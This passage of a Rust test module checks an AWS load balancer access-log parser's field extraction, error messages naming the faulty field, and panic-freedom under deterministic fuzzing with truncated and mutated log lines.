                s("client_host").and_then(parse_ip_port),
                "{name}"
            );
            assert_eq!(
                h.status.to_string(),
                s("elb_status_code").unwrap(),
                "{name}"
            );
            assert_eq!(
                Some(h.time_ms),
                parse_iso8601_ms(s("timestamp").unwrap().as_bytes()),
                "{name}"
            );
            assert_eq!(h.method, s("request_method").unwrap_or("-"), "{name}");
            let url = s("request_url").unwrap();
            if h.method == "-" {
                assert_eq!(h.path, "-", "{name}");
                assert!(url.contains(&*h.host), "{name}");
            } else {
                assert_eq!(split_url(url), (&*h.host, &*h.path), "{name}");
            }
            assert_eq!(h.user_agent, s("user_agent").unwrap_or("-"), "{name}");
        }
    }

    #[test]
    fn reading_the_time_first_changes_nothing() {
        // Fixture lines and the documentation's, with bytes of the type and
        // the time replaced by spaces, `T`, digits and the like: the ends
        // found after the time read first must be those of a full pass.
        let mut corpus: Vec<Vec<u8>> = vec![DOC_HTTP.as_bytes().to_vec()];
        for (file, _) in EXPECTED {
            corpus.extend(fixture_lines(file).into_iter().take(20));
        }
        let alphabet = b" T0:-.Z9+";
        let mut seed = 11u64;
        let mut next = || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        let mut lines = 0;
        for line in &corpus {
            for _ in 0..200 {
                let mut l = line.clone();
                for _ in 0..1 + next() % 2 {
                    let at = (next() % 40) as usize;
                    if let Some(b) = l.get_mut(at) {
                        *b = alphabet[(next() % alphabet.len() as u64) as usize];
                    }
                }
                // With every field read, and with the lean default.
                for all in [true, false] {
                    let (mut a, mut b) = (AlbParser::default(), AlbParser::default());
                    if all {
                        a.set_detail(&StatusSet::ALL);
                        b.set_detail(&StatusSet::ALL);
                    }
                    assert_eq!(
                        a.parse_with(&l, true),
                        b.parse_with(&l, false),
                        "{}",
                        String::from_utf8_lossy(&l)
                    );
                }
                lines += 1;
            }
        }
        assert!(lines > 1000);
    }

    #[test]
    fn first_spaces_finds_every_space_exactly() {
        // Against a plain scan, on lines with spaces at every offset and
        // bytes next to 0x20 (0x1f, 0x21, 0xa0) that must not count; and
        // on lines mostly of spaces, up to eight in a word.
        let sparse: &[u8] = &[b' ', b'a', 0x1f, 0x21, 0xa0, 0x00, 0xff];
        let dense: &[u8] = b"   a";
        let mut seed = 7u64;
        for (len, alphabet) in (0..80).flat_map(|n| [(n, sparse), (n, dense)]) {
            for _ in 0..20 {
                let line: Vec<u8> = (0..len)
                    .map(|_| {
                        seed = seed
                            .wrapping_mul(6364136223846793005)
                            .wrapping_add(1442695040888963407);
                        alphabet[(seed >> 33) as usize % alphabet.len()]
                    })
                    .collect();
                let want: Vec<usize> = line
                    .iter()
                    .enumerate()
                    .filter(|(_, &b)| b == b' ')
                    .map(|(i, _)| i)
                    .take(SPACES)
                    .collect();
                let mut ends = [0usize; SPACES];
                let n = first_spaces(&line, 0, &mut ends);
                assert_eq!(&ends[..n], &want[..], "{line:?}");
                // From an offset: the spaces after it, at their places.
                let from = len / 3;
                let want: Vec<usize> = line
                    .iter()
                    .enumerate()
                    .skip(from)
                    .filter(|(_, &b)| b == b' ')
                    .map(|(i, _)| i)
                    .take(SPACES)
                    .collect();
                let n = first_spaces(&line, from, &mut ends);
                assert_eq!(&ends[..n], &want[..], "{line:?} from {from}");
            }
        }
    }

    #[test]
    fn errors_name_the_field() {
        let err = |line: &str| AlbParser::parse_line(line.as_bytes()).unwrap_err();
        let fields: Vec<&str> = DOC_HTTP.split(' ').collect();
        let names = [
            "type",
            "time",
            "elb",
            "client:port",
            "target:port",
            "request_processing_time",
            "target_processing_time",
            "response_processing_time",
            "elb_status_code",
            "target_status_code",
            "received_bytes",
            "sent_bytes",
            "request",
        ];
        // Cut after field n: field n+1 is missing.
        for n in 1..names.len() {
            let e = err(&fields[..n].join(" "));
            assert_eq!(e, ParseError::new(names[n], "missing"), "cut after {n}");
        }
        // The request is 3 tokens; cut after it, the user agent is missing.
        assert_eq!(err(&fields[..15].join(" ")).field, "user_agent");
        assert_eq!(
            err(&DOC_HTTP.replace("2018-07-02T22:23:00.186641Z", "yesterday")).field,
            "time"
        );
        assert_eq!(
            err(&DOC_HTTP.replace("192.168.131.39:2817", "192.168.131.39")).field,
            "client:port"
        );
        assert_eq!(
            err(&DOC_HTTP.replace("192.168.131.39:2817", "-")).field,
            "client:port"
        );
        assert_eq!(
            err(&DOC_HTTP.replace(" 200 200 ", " OK 200 ")).field,
            "elb_status_code"
        );
        assert_eq!(
            err(&DOC_HTTP.replace(" 200 200 ", " 2000 200 ")).field,
            "elb_status_code"
        );
        // Unterminated quotes name the field they are in.
        let e = err(&DOC_HTTP[..DOC_HTTP.find("curl").unwrap() + 3]);
        assert_eq!(e, ParseError::new("user_agent", "unterminated quote"));
        // Fields after the user agent are read only for a 403 (to see whether
        // WAF blocked it): a 200 cut there is a complete request record.
        let cut_trace = &DOC_HTTP[..DOC_HTTP.find("\"Root").unwrap() + 5];
        assert!(AlbParser::parse_line(cut_trace.as_bytes())
            .unwrap()
            .is_some());
        let forbidden = DOC_HTTP.replace(" 200 200 ", " 403 200 ");
        let e = err(&forbidden[..forbidden.find("\"Root").unwrap() + 5]);
        assert_eq!(e, ParseError::new("trace_id", "unterminated quote"));
        let e = err(&forbidden[..forbidden.find("\"forward").unwrap() + 4]);
        assert_eq!(e, ParseError::new("actions_executed", "unterminated quote"));
        // A backslash at the very end escapes nothing: still unterminated.
        let e = err(&format!(
            "{}\\",
            &DOC_HTTP[..DOC_HTTP.find("curl").unwrap()]
        ));
        assert_eq!(e, ParseError::new("user_agent", "unterminated quote"));
    }

    #[test]
    fn nothing_after_actions_executed_is_read() {
        // An unterminated quote after field 23 is never seen.
        let line = DOC_HTTP.replace("\"10.0.0.1:80\" \"200\" \"-\" \"-\"", "\"never closed");
        assert_eq!(AlbParser::hit(&line), AlbParser::hit(DOC_HTTP));
    }

    /// Deterministic xorshift for the fuzz test.
    fn xorshift(state: &mut u64) -> u64 {
        *state ^= *state << 13;
        *state ^= *state >> 7;
        *state ^= *state << 17;
        *state
    }

    #[test]
    fn no_panic_on_prefixes_mutations_and_noise() {
        let mut corpus: Vec<Vec<u8>> = Vec::new();
        for (file, _) in EXPECTED {
            corpus.extend(fixture_lines(file));
        }
        let known = |e: &ParseError| {
            [
                "type",
                "time",
                "elb",
                "client:port",
                "target:port",
                "request_processing_time",
                "target_processing_time",
                "response_processing_time",
                "backend:port",
                "backend_processing_time",
                "elb_status_code",
                "target_status_code",
                "backend_status_code",
                "received_bytes",
                "sent_bytes",
                "request",
                "user_agent",
                "ssl_cipher",
                "ssl_protocol",
                "target_group_arn",
                "trace_id",
                "domain_name",
                "chosen_cert_arn",
                "matched_rule_priority",
                "request_creation_time",
                "actions_executed",
            ]
            .contains(&e.field)
        };
        let check = |line: &[u8]| {
            if let Err(e) = AlbParser::parse_line(line) {
                assert!(known(&e), "{e}");
            }
        };
        for line in &corpus {
            for n in 0..=line.len() {
                check(&line[..n]);
            }
        }
        let mut state = 0x9E37_79B9_7F4A_7C15u64;
        for line in corpus.iter().take(12) {
            for pos in 0..line.len() {
                for b in [b'"', b'\\', b' ', b':', 0xFF, 0xC3, b'\r'] {
                    let mut m = line.clone();
                    m[pos] = b;
                    check(&m);
                    m.truncate(pos + 1);
                    check(&m);
                }
            }
        }
        let alphabet = b" \"\\:-.0123456789httpsaTZ\xff";
        for _ in 0..20_000 {
            let len = (xorshift(&mut state) % 64) as usize;
            let noise: Vec<u8> = (0..len)
                .map(|_| alphabet[(xorshift(&mut state) % alphabet.len() as u64) as usize])
                .collect();
            check(&noise);
            let mut spliced = b"http 2018-07-02T22:23:00Z x 1.2.3.4:5 ".to_vec();
            spliced.extend_from_slice(&noise);
            check(&spliced);
        }
    }
}
